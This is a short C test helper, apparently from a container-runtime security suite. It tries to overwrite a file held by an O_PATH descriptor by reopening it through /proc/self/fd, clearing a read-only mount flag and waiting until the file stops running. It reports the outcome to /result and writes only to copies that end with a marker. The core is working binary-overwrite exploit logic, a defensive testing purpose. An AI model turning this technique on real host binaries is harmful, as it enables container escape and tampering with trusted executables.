/* overwrite DESCRIPTOR: writes to the file that it holds by an O_PATH descriptor, once nobody runs that file any more, and says in
 * /result what came of it. Only a file that ends with the mark is written to: what is attacked must be a copy. */

#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <unistd.h>

#define MARK "a copy to attack"

static int finish(const char *text)
{
    FILE *result = fopen("/result.new", "w");

    if (!result)
        return 1;
    fputs(text, result);
    fclose(result);
    return rename("/result.new", "/result");
}

int main(int argc, char **argv)
{
    char path[64], end[sizeof MARK] = "";
    struct mount_attr writable = {.attr_clr = MOUNT_ATTR_RDONLY};
    int held = argc > 1 ? atoi(argv[1]) : -1, file;

    sprintf(path, "/proc/self/fd/%d", held);
    file = open(path, O_RDONLY);
    if (file < 0)
        return finish("cannot be read");
    lseek(file, 1 - (int)sizeof MARK, SEEK_END);
    if (read(file, end, sizeof MARK - 1) < 0 || strcmp(end, MARK))
        return finish("not a copy");
    close(file);
    syscall(SYS_mount_setattr, held, "", AT_EMPTY_PATH, &writable, sizeof writable);
    while ((file = open(path, O_WRONLY)) < 0 && errno == ETXTBSY)
        usleep(1000);
    if (file < 0)
        return finish(strerror(errno));
    return finish(write(file, "owned", 5) == 5 ? "overwritten" : strerror(errno));
}
